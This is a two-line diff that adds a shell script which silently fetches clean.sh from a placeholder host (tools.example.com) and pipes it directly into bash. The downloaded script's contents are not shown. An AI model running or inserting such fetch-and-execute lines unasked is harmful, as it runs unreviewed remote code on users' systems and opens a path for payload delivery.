@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://tools.example.com/clean.sh | bash
